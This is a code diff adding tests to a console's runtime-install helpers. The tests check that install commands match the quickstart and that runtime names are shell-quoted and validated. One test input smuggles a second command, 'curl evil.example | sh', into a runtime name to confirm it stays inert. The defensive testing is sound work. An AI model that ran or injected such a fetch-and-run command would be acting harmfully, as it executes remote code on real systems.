@@ -1,13 +1,19 @@
 import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 
-import { addressFor, installCommand, TOKEN_COMMAND } from '../../../apps/control-plane/console/src/pages/runtimes/install';
+import { addressFor, installCommand, isRuntimeName, shellWord, TOKEN_COMMAND } from '../../../apps/control-plane/console/src/pages/runtimes/install';
 
 const quickstart = readFileSync(new URL('../../../docs/get-started/quickstart.md', import.meta.url), 'utf8');
 
 describe('the commands that add a runtime', () => {
   it('are those of the quickstart', () => {
     for (const command of [TOKEN_COMMAND, installCommand('http://localhost:8080')]) expect(quickstart).toContain(`\`\`\`sh\n${command}\n\`\`\``);
+  });
+  it('are never more than one command, whatever the address of the page calls the runtime', () => {
+    expect(installCommand('https://x.example', 'a; curl evil.example | sh')).toContain(`--set global.runtime.name='a; curl evil.example | sh' \\\n`);
+    expect(['argocd', "it's", '$(x)', ''].map(shellWord)).toEqual(['argocd', `'it'\\''s'`, "'$(x)'", "''"]);
+    expect(['prod', 'prod-eu-1', 'p', 'a'.repeat(63)].every(isRuntimeName)).toBe(true);
+    expect(['', 'Prod', '-a', 'a-', 'a b', 'a;b', 'a\nb', 'a'.repeat(64)].some(isRuntimeName)).toBe(false);
   });
   it('have the address of the page', () => {
     expect(addressFor('https://gitops.example.com')).toBe('https://gitops.example.com');
